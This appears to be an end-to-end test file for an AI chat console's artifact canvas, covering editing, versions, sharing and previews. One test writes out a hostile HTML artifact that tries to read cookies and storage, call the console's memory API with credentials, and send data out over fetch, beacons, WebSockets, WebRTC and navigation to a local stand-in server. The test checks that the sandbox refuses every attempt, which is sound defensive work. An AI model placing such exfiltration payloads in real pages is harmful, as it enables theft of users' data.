import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Reply, ScriptedModel } from '../harness/model.ts';
import { until } from '../harness/until.ts';
import { type Console, call, connectModel, openConsole, setUp, textOf } from './support.ts';

// The canvas as a person works on it beside a chat, and as hostile content finds it.
let console_: Console;
let vendor: ScriptedModel;
let state: Awaited<ReturnType<ReturnType<Page['context']>['storageState']>>;
let replies: Reply[] = [];
/** What hostile content would tell, over HTTP and over UDP. */
let outside: Server;
let stun: Socket;
const reached: string[] = [];

beforeAll(async () => {
  vendor = await ScriptedModel.start(({ role }) =>
    role === 'titler' ? { text: 'Zebras' } : (replies.shift() ?? { text: 'Done.' }),
  );
  outside = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    response.end('ok');
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  stun = createSocket('udp4').on('message', () => reached.push('UDP'));
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
  console_ = await openConsole();
  const page = await console_.page();
  await setUp(page, console_.server);
  await connectModel(page, vendor);
  await call(page, 'PATCH', '/api/settings', { output_config: { canvas_auto_open: true } });
  state = await page.context().storageState();
  await page.context().close();
});
afterAll(async () => {
  await console_?.close();
  await vendor?.close();
  outside?.close();
  stun?.close();
});

const port = (server: { address(): unknown }) => (server.address() as AddressInfo).port;

async function makeArtifact(page: Page, artifact: Record<string, string>): Promise<string> {
  const made = (await call(page, 'POST', '/api/canvas', artifact)) as { id: string };
  return made.id;
}

const counter = `import { useState } from 'react';
export default function Counter() {
  const [count, setCount] = useState<number>(0);
  return <button onClick={() => setCount(count + 1)}>Clicked {count} times</button>;
}`;

test('an answer makes a component; it runs, is edited, compared, restored, shared, downloaded', async () => {
  const page = await console_.page({ storageState: state });
  await page.goto('/chat/new');
  replies = [
    { tool: 'create_artifact', input: { title: 'Counter', content_type: 'react', content: counter } },
    { text: 'Here is a counter.' },
  ];
  const message = page.getByRole('textbox', { name: 'Message' });
  await message.fill('Make a counter');
  await message.press('Enter');
  // It opens by itself, and runs.
  const artifact = page.getByRole('region', { name: 'Artifact Counter' });
  await artifact.waitFor();
  const inside = page.frameLocator('iframe[title="Preview of Counter"]');
  await inside.getByRole('button', { name: 'Clicked 0 times' }).click();
  await inside.getByRole('button', { name: 'Clicked 1 times' }).waitFor();

  // Edited by hand.
  await artifact.getByRole('button', { name: 'Edit' }).click();
  const editor = artifact.getByRole('textbox', { name: 'Content of Counter' });
  await editor.click();
  await page.keyboard.press('Control+Home');
  await page.keyboard.type('// by hand\n');
  await page.keyboard.press('Control+s');
  await artifact.getByText('React, version 2').waitFor();

  // Another tab shows what is done here, and here what is done there.
  const id = new URL(page.url()).searchParams.get('artifact') ?? '';
  const other = console_.watch(await page.context().newPage());
  await other.goto(`/canvas/${id}`);
  await other.getByRole('heading', { name: 'Counter', level: 1 }).waitFor();
  await other.getByRole('button', { name: 'Edit' }).click();
  await other.getByRole('textbox', { name: 'Content of Counter' }).click();
  await other.keyboard.press('Control+Home');
  await other.keyboard.type('// from the other tab\n');
  await editor.click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type('\n// not saved yet');
  await other.getByRole('button', { name: 'Save' }).click();
  await other.getByText('React, version 3').waitFor();
  const alert = artifact.getByRole('alert');
  await alert.getByText('It was changed while you edited it, to version 3.').waitFor();
  expect(await artifact.getByRole('button', { name: 'Save', exact: true }).isDisabled()).toBe(true);
  await alert.getByRole('button', { name: 'Show the difference' }).click();
  await alert.getByText('// from the other tab').waitFor();
  await alert.getByRole('button', { name: 'Save mine as the next version' }).click();
  await artifact.getByText('React, version 4').waitFor();
  await alert.waitFor({ state: 'detached' });
  await other.getByText('React, version 4').waitFor();

  // Nothing that is not saved goes away unasked.
  await editor.click();
  await page.keyboard.type('x');
  await artifact.getByRole('button', { name: 'Close the canvas' }).click();
  const leaving = page.getByRole('dialog', { name: 'Leave without saving?' });
  await leaving.getByRole('button', { name: 'Cancel' }).click();
  await artifact.getByRole('button', { name: 'Discard' }).click();

  // Versions, what changed, and back.
  await artifact.getByRole('button', { name: 'Versions' }).click();
  const versions = artifact.getByRole('list', { name: 'Versions' });
  await expect.poll(() => versions.getByRole('listitem').count()).toBe(4);
  await versions.getByText('Written by the model').waitFor();
  await versions.getByRole('button', { name: /Version 1/ }).click();
  await artifact.getByText('What changed from version 1 to now').waitFor();
  await artifact.locator('.cm-changedLine, .cm-insertedLine').getByText('// by hand').first().waitFor();
  await artifact.getByRole('button', { name: 'Restore version 1' }).click();
  await artifact.getByText('React, version 5').waitFor();
  const now = (await (await page.request.get(`/api/canvas/${id}`)).json()) as { content: string };
  expect(now.content).toBe(counter);

  // The model changes a part; the open preview is the new one.
  await artifact.getByRole('button', { name: 'Preview' }).click();
  replies = [
    {
      tool: 'update_artifact',
      input: {
        artifact_id: id,
        edits: [{ search: 'Clicked {count} times', replace: 'Pressed {count}' }],
        change_summary: 'Says pressed',
      },
    },
    { text: 'Changed.' },
  ];
  await message.fill('Say pressed');
  await message.press('Enter');
  await inside.getByRole('button', { name: 'Pressed 0' }).waitFor();

  // Copy, download, and a link that closes at once.
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await artifact.getByRole('button', { name: 'Copy the content' }).click();
  expect(await page.evaluate('navigator.clipboard.readText()')).toContain('Pressed {count}');
  const download = page.waitForEvent('download');
  await artifact.getByRole('button', { name: 'Download' }).click();
  expect((await download).suggestedFilename()).toBe('Counter.tsx');
  await artifact.getByRole('button', { name: 'Share' }).click();
  const share = page.getByRole('dialog', { name: 'Share this artifact' });
  await share.getByRole('switch', { name: 'Publish' }).click();
  await share.getByRole('switch', { name: 'Publish', checked: true }).waitFor();
  await share.getByRole('button', { name: 'Make a link' }).click();
  const link = await textOf(share.getByRole('region', { name: 'link' }));
  const reader = await console_.page();
  await reader.goto(link);
  await reader.frameLocator('iframe').getByRole('button', { name: 'Pressed 0' }).waitFor();
  await reader.getByRole('button', { name: 'Show the text' }).click();
  await reader.getByText('Pressed {count}').waitFor();
  await share.getByRole('button', { name: 'Close link' }).click();
  await share.getByText('There are none.').waitFor();
  await reader.reload();
  await reader.getByRole('alert').getByText('This link shows nothing.').waitFor();
  await page.keyboard.press('Escape');

  // The list beside the chat, the card in it, and the page of all.
  await artifact.getByRole('button', { name: 'All artifacts' }).click();
  const canvas = page.getByRole('region', { name: 'Canvas' });
  await canvas.getByRole('list', { name: 'Artifacts' }).getByText('React, version 6').waitFor();
  await canvas.getByRole('button', { name: 'Close the canvas' }).click();
  await page.getByRole('list', { name: 'Artifacts of this answer' }).first().getByRole('button').click();
  await artifact.getByRole('button', { name: 'Actions for Counter' }).click();
  await page.getByRole('menuitem', { name: 'Rename' }).click();
  await page.getByRole('dialog').getByLabel('Title').fill('Presses');
  await page.getByRole('button', { name: 'Rename', exact: true }).click();
  await page.getByRole('heading', { name: 'Presses', level: 2 }).waitFor();
  await other.goto('/canvas?search=pressed');
  await other.getByRole('button', { name: /Presses/ }).click();
  await other.getByRole('heading', { name: 'Presses', level: 1 }).waitFor();
  await other.getByRole('link', { name: 'Open its chat' }).click();
  // The page that is left shows the same region.
  const beside = other.getByRole('complementary', { name: 'Canvas beside the chat' });
  await beside.getByRole('button', { name: 'Actions for Presses' }).click();
  await other.getByRole('menuitem', { name: 'Delete' }).click();
  await other.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
  await other.getByText('Nothing is on the canvas yet').waitFor();
});

test('each kind is shown, and what is wrong in one is said', async () => {
  const page = await console_.page({ storageState: state });
  await page.goto('/canvas');
  await page.getByText('Nothing is on the canvas yet').waitFor();
  await page.getByRole('button', { name: 'New artifact' }).first().click();
  const dialog = page.getByRole('dialog', { name: 'New artifact' });
  await dialog.getByLabel('Title').fill('Drawing');
  await dialog.getByLabel('Kind').selectOption('mermaid');
  await dialog.getByRole('button', { name: 'Make it' }).click();
  await page.getByRole('heading', { name: 'Drawing', level: 1 }).waitFor();
  await page.getByRole('button', { name: 'Edit' }).click();
  await page.getByRole('textbox', { name: 'Content of Drawing' }).click();
  await page.keyboard.type('graph TD; Zebra-->Stripes');
  // The preview shows what is not saved yet.
  await page.getByRole('button', { name: 'Preview' }).click();
  await page.frameLocator('iframe').locator('svg').getByText('Stripes').waitFor();
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByText('Mermaid, version 2').waitFor();

  const show = async (artifact: Record<string, string>) => {
    await page.goto(`/canvas/${await makeArtifact(page, artifact)}`);
    return page.frameLocator('iframe');
  };
  const errors = page.getByRole('alert', { name: 'Errors of the preview' });
  await show({ title: 'Broken drawing', content_type: 'mermaid', content: 'graph TD; A--' });
  await errors.getByText(/parse error/i).waitFor();
  await show({ title: 'Broken code', content_type: 'react', content: 'export default () => <p>' });
  await errors.getByText(/Unterminated|Unexpected/).waitFor();
  await show({
    title: 'Throws',
    content_type: 'react',
    content: 'export default function App() { throw new Error("no stripes left"); }',
  });
  await errors.getByText('no stripes left').waitFor();
  await show({
    title: 'Foreign',
    content_type: 'react',
    content: 'import x from "lodash"; export default x;',
  });
  await errors.getByText('There is no module “lodash”').waitFor();
  const markup = await show({
    title: 'Old page',
    content_type: 'html',
    content: `<body onload="said('loaded')"><button onclick="said('clicked ' + this.textContent)">Me</button><p id="said"></p>
<script>function said(text) { document.getElementById('said').append(text + ' '); }</script>
<script>document.addEventListener('DOMContentLoaded', () => said('ready'));</script></body>`,
  });
  await markup.getByText('ready loaded').waitFor();
  await markup.getByRole('button', { name: 'Me' }).click();
  await markup.getByText('clicked Me').waitFor();
  const picture = await show({
    title: 'Picture',
    content_type: 'svg',
    content: '<svg xmlns="http://www.w3.org/2000/svg"><text y="20">A picture</text></svg>',
  });
  await picture.getByText('A picture').waitFor();
  await show({
    title: 'Text',
    content_type: 'markdown',
    content: '# A heading\n\n<script>alert(1)</script>',
  });
  await page.getByRole('heading', { name: 'A heading' }).waitFor();
  await show({ title: 'Numbers', content_type: 'csv', content: 'a,b\n1,2' });
  await page.getByRole('region', { name: 'Content of Numbers' }).getByText('a,b').waitFor();
});

test('hostile HTML reaches no cookie, no parent, no network, and no other page', async () => {
  const page = await console_.page({ storageState: state });
  await page.goto('/canvas');
  const away = `http://127.0.0.1:${port(outside)}`;
  const api = `${console_.server.url}/api/memory`;
  const hostile = `<!doctype html><title>x</title>
<link rel="stylesheet" href="${away}/style"><link rel="prefetch" href="${away}/prefetch">
<link rel="preconnect" href="${away}"><style>@import url(${away}/import); body { background: url(${away}/background) }</style>
<img src="${away}/image"><iframe src="${away}/frame"></iframe><object data="${away}/object"></object>
<video src="${away}/video"></video><script src="${away}/script"></script>
<form id="f" action="${away}/form" method="post"><input name="a" value="b"></form>
<ul id="log"></ul><script>
const log = (text) => { const li = document.createElement('li'); li.textContent = text; document.getElementById('log').append(li); };
const attempt = async (name, work) => { try { const got = await work(); log(name + ': got ' + got); } catch (error) { log(name + ': refused'); } };
(async () => {
  await attempt('cookie', () => document.cookie.length);
  await attempt('storage', () => localStorage.length);
  await attempt('database', () => indexedDB.open('x') && 'opened');
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => top.location.href);
  await attempt('fetch', async () => (await fetch('${away}/fetch')).status);
  await attempt('api', async () => (await fetch('${api}', { credentials: 'include' })).status);
  await attempt('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = no; }));
  await attempt('eval', () => eval('1'));
  await attempt('popup', () => { if (!open('${away}/popup')) throw 1; });
  await attempt('navigate top', () => { top.location = '${away}/top'; });
  navigator.sendBeacon('${away}/beacon', 'x');
  try { new EventSource('${away}/events'); } catch {}
  try { new WebSocket('ws://127.0.0.1:${port(outside)}/socket'); } catch {}
  const call = (Peer) => { const p = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${port(stun)}' }] }); p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer)); };
  await attempt('peer', () => call(RTCPeerConnection));
  const child = document.createElement('iframe'); document.body.append(child);
  await attempt('peer of a child', () => call(child.contentWindow.RTCPeerConnection));
  const inner = document.createElement('iframe');
  inner.srcdoc = '<script>(' + call.toString() + ')(RTCPeerConnection)<\\/script>'; document.body.append(inner);
  document.getElementById('f').submit();
  const link = document.createElement('a'); link.href = '${away}/ping'; link.ping = '${away}/pinged'; link.target = '_blank'; document.body.append(link); link.click();
  log('done');
})();
</script>`;
  await page.goto(
    `/canvas/${await makeArtifact(page, { title: 'Hostile', content_type: 'html', content: hostile })}`,
  );
  const inside = page.frameLocator('iframe[title="Preview of Hostile"]');
  await inside.getByText('done', { exact: true }).waitFor();
  const log = await inside.getByRole('listitem').allTextContents();
  expect(log.filter((line) => !line.endsWith(': refused') && line !== 'done')).toEqual([]);
  expect(log).toContain('cookie: refused');
  // A frame may leave for another page; the console's own policy stops it.
  for (const [title, content] of [
    ['Leaves', `<script>location = '${away}/navigation?secret'</script>`],
    ['Refreshes', `<meta http-equiv="refresh" content="0;url=${away}/refresh?secret">`],
  ] as const) {
    const blocked: string[] = [];
    page.on('console', (line) => blocked.push(line.text()));
    await page.goto(`/canvas/${await makeArtifact(page, { title, content_type: 'html', content })}`);
    await until(
      async () => blocked.some((line) => line.includes(away) && /frame-src|default-src/.test(line)),
      `${title} was stopped`,
    );
  }
  expect(reached).toEqual([]);
  expect(new URL(page.url()).pathname).toMatch(/^\/canvas\//);
  expect(page.context().pages()).toHaveLength(1);

  // The page outside is there: who may, reaches it.
  await page.request.get(`${away}/control`);
  expect(reached).toEqual(['GET /control']);
});

test('what the model thinks and writes is seen while it does', async () => {
  const page = await console_.page({ storageState: state });
  await page.goto('/chat/new');
  const content = `# Zebras\n\n${'Their stripes are no two alike.\n'.repeat(30)}`;
  replies = [
    {
      tool: 'create_artifact',
      input: { title: 'On zebras', content_type: 'markdown', content },
      reasoning: 'A short text is wanted.',
      everyMs: 120,
    },
    { text: 'It is written.' },
  ];
  const message = page.getByRole('textbox', { name: 'Message' });
  await message.fill('Write about zebras');
  await message.press('Enter');
  await page
    .getByRole('region', { name: 'what the model thought' })
    .getByText('A short text is wanted.')
    .waitFor();
  const call = page.getByRole('region', { name: 'Tool call under way' });
  await call.getByText('Create artifact: On zebras').waitFor();
  await call.getByText(/^\d{2,3} characters so far$/).waitFor();
  await page.getByText('It is written.').waitFor();
  expect(await call.count()).toBe(0);
  await page.getByRole('button', { name: 'On zebras Markdown, version 1' }).waitFor();
  await page.context().close();
});
